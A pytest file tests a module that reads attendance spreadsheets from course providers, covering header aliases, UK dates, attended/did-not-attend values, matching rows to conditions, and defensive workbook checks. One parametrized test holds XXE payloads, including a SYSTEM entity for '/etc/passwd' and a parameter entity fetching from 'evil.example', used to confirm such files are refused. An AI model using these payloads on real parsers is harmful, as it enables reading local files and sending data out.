"""Reading a provider's attendance file: header variants, UK dates, attended / did not attend, a
file that reads only when every cell does, and matching a row to one condition (never a guess);
workbooks checked by content and refused clearly when they carry a DTD, declare a huge sheet or are
not workbooks at all."""
from __future__ import annotations

from datetime import date, datetime

import io
import zipfile

import pytest
from compliance_testing import WORKBOOK_HEADERS, declaring, with_doctype, workbook

from webapp.domain import attendance_files as files


@pytest.mark.parametrize("header, key", [
    ("Case Reference", "reference"), ("case_ref", "reference"), ("URN", "reference"),
    ("Client name", "name"), ("Surname", "last_name"), ("Forename", "first_name"),
    ("D.O.B.", "date_of_birth"), ("DOB", "date_of_birth"), ("Date of birth", "date_of_birth"),
    ("Course title", "course"), ("Programme", "course"), ("Session date", "date"), ("Date", "date"),
    ("Attended?", "attended"), ("Attended (Y/N)", "attended"), ("Outcome", "attended"), ("Notes", None),
])
def test_header_variants(header, key):
    assert files.header_key(header) == key


def test_missing_columns_are_named():
    with pytest.raises(files.AttendanceFileError) as err:
        files.map_headers(["Name", "Course", "Date"])
    messages = [str(p) for p in err.value.problems]
    assert any("date of birth" in m for m in messages)
    assert any("\u201cattended\u201d" in m for m in messages)
    assert all(m.startswith("Row 1") for m in messages)


def test_doubled_column_is_named():
    with pytest.raises(files.AttendanceFileError) as err:
        files.map_headers(["Case ref", "Reference", "Date", "Attended"])
    assert str(err.value.problems[0]) == "Row 1, column \u201cReference\u201d: two columns give the case reference: keep one"


@pytest.mark.parametrize("value, expected", [
    ("14/11/2026", date(2026, 11, 14)), ("2026-11-14", date(2026, 11, 14)), ("14/11/26", date(2026, 11, 14)),
    ("14 Nov 2026", date(2026, 11, 14)), ("14 November 2026", date(2026, 11, 14)), ("14.11.2026", date(2026, 11, 14)),
    (datetime(2026, 11, 14, 9, 30), date(2026, 11, 14)), (date(2026, 11, 14), date(2026, 11, 14)),
])
def test_dates(value, expected):
    assert files.parse_date(value) == expected


@pytest.mark.parametrize("value", ["31/02/2026", "next tuesday", ""])
def test_bad_dates(value):
    with pytest.raises(ValueError):
        files.parse_date(value)


@pytest.mark.parametrize("value, expected", [
    ("Attended", True), ("Y", True), ("yes", True), ("TRUE", True), (1, True),
    ("Did not attend", False), ("DNA", False), ("No", False), ("absent", False), ("Didn't attend", False),
])
def test_attended_values(value, expected):
    assert files.parse_attended(value) is expected


def test_unclear_attendance_value_is_refused():
    with pytest.raises(ValueError, match="not clear"):
        files.parse_attended("maybe")


def test_parse_rows_names_every_bad_cell_and_returns_nothing():
    headers = ["Case reference", "Course", "Date", "Attended"]
    rows = [["OC26-000001", "Victim awareness", "14/11/2026", "Attended"],
            ["OC26-000002", "Victim awareness", "31/02/2026", "Attended"],
            [None, None, None, None],
            ["OC26-000003", "Victim awareness", "14/11/2026", "perhaps"]]
    with pytest.raises(files.AttendanceFileError) as err:
        files.parse_rows(headers, rows)
    messages = [str(p) for p in err.value.problems]
    assert messages[0].startswith("Row 3, column \u201cDate\u201d: \u201c31/02/2026\u201d is not a date")
    assert messages[1].startswith("Row 5, column \u201cAttended\u201d")


def test_parse_rows_with_names_and_split_name_columns():
    rows = files.parse_rows(["Forename", "Surname", "DOB", "Course", "Session date", "Attended?"],
                        [["Jane", "Doe", "01/04/1990", "Victim awareness", "2026-11-14", "DNA"]])
    assert rows == [files.AttendanceRow(2, "", "Jane Doe", date(1990, 4, 1), "Victim awareness", date(2026, 11, 14), False)]


def test_name_without_date_of_birth_is_refused():
    with pytest.raises(files.AttendanceFileError) as err:
        files.parse_rows(["Name", "DOB", "Date", "Attended"], [["Jane Doe", "", "14/11/2026", "yes"]])
    assert str(err.value.problems[0]).startswith("Row 2, column \u201cDOB\u201d: is empty")


@pytest.mark.parametrize("raw", ["DOE, Jane", "jane  doe", "Jane Doe", "Jáne Doe"])
def test_names_compare_as_people_do(raw):
    assert files.normalise_name(raw) == "jane doe"


def _cand(cid, ref="OC26-000001", type_="course", description="Attend a victim awareness course",
          status="pending", first="Jane", last="Doe", dob=date(1990, 4, 1), provider="Northgate Awareness"):
    return files.Candidate(cid, ref, first, last, dob, type_, description, provider, status)


def _row(reference="OC26-000001", name="", dob=None, course="Victim awareness", attended=False):
    return files.AttendanceRow(2, reference, name, dob, course, date(2026, 11, 14), attended)


def test_match_by_reference():
    match = files.match_row(_row(), [_cand(1), _cand(2, type_="compensation", description="Pay compensation")])
    assert match == files.Match("matched", 1, (1,))


def test_match_by_name_and_date_of_birth():
    match = files.match_row(_row(reference="", name="DOE, Jane", dob=date(1990, 4, 1)), [_cand(1), _cand(3, ref="X2", first="Ann")])
    assert match.status == "matched" and match.condition_id == 1


def test_same_name_other_birthday_does_not_match():
    match = files.match_row(_row(reference="", name="Jane Doe", dob=date(1991, 4, 1)), [_cand(1)])
    assert match.status == "unmatched"


def test_reference_with_another_persons_name_goes_to_a_person():
    match = files.match_row(_row(name="John Smith"), [_cand(1)])
    assert match.status == "unmatched" and "different name" in match.reason


def test_unknown_reference():
    match = files.match_row(_row(reference="OC26-999999"), [_cand(1)])
    assert match.status == "unmatched" and "OC26-999999" in match.reason


def test_course_words_pick_between_conditions():
    candidates = [_cand(1), _cand(2, description="Drug awareness session", provider="Change Grow Live")]
    assert files.match_row(_row(course="Drug awareness"), candidates).condition_id == 2
    assert files.match_row(_row(course="Victim Awareness Course"), candidates).condition_id == 1


def test_two_equal_conditions_are_ambiguous():
    candidates = [_cand(1), _cand(2)]
    match = files.match_row(_row(), candidates)
    assert match.status == "ambiguous" and set(match.candidate_ids) == {1, 2}


def test_open_condition_preferred_over_completed_twin():
    match = files.match_row(_row(), [_cand(1, status="completed"), _cand(2)])
    assert match.condition_id == 2


def test_course_that_matches_nothing_is_unmatched():
    match = files.match_row(_row(course="Knife crime"), [_cand(1)])
    assert match.status == "unmatched" and "Knife crime" in match.reason


def test_withdrawn_and_payment_conditions_are_never_candidates():
    match = files.match_row(_row(), [_cand(1, status="withdrawn"), _cand(2, type_="financial_penalty")])
    assert match.status == "unmatched"


# ----- reading the file ------------------------------------------------------------------------------

def problems(data: bytes, name: str = "attendance.xlsx") -> str:
    with pytest.raises(files.AttendanceFileError) as refused:
        files.read_table(name, data)
    return str(refused.value)


def test_a_plain_workbook_is_read():
    headers, rows, first = files.read_table("attendance.xlsx", workbook())
    assert headers == WORKBOOK_HEADERS and rows[0][0] == "OC26-000001" and first == 2


@pytest.mark.parametrize("doctype", [
    "<!DOCTYPE worksheet>",
    '<!DOCTYPE worksheet [<!ENTITY name "Someone">]>',
    '<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">',
    '<!-- a comment first --><!doctype worksheet [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
])
def test_a_workbook_with_a_document_type_declaration_is_refused_clearly(doctype):
    assert "document type declaration" in problems(workbook(sheet_xml=with_doctype(doctype)))


def test_a_workbook_declaring_every_column_is_refused_before_reading_rows():
    huge = workbook(sheet_xml=declaring("A1:XFD20000"))
    assert len(huge) < 10_000
    assert "wider than 50 columns" in problems(huge)


def test_a_workbook_declaring_too_many_rows_is_refused():
    assert "more than 20,000 rows" in problems(workbook(sheet_xml=declaring("A1:E30000")))


def test_cells_beyond_the_columns_read_are_not_padded_or_read():
    far = workbook(sheet_xml=lambda xml: declaring("A1:E3")(xml).replace(
        "</sheetData>", '<row r="3"><c r="XFD3" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'))
    _, rows, _ = files.read_table("attendance.xlsx", far)
    assert all(len(row) <= files.MAX_COLUMNS for row in rows) and "far away" not in str(rows)


@pytest.mark.parametrize("name, data, message", [
    ("attendance.xlsx", b"Case Ref,Client name\nOC26-000001,Jane Doe\n", "not an Excel workbook"),
    ("attendance.xlsx", b"PK\x03\x04 not really a zip", "not an Excel workbook"),
    ("attendance.csv", b"PK\x05\x06" + b"\x00" * 18, "not an Excel workbook"),  # an empty zip, named .csv
])
def test_the_type_is_checked_by_content_not_by_name(name, data, message):
    assert message in problems(data, name)


def test_a_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "not an Excel workbook" in problems(out.getvalue())
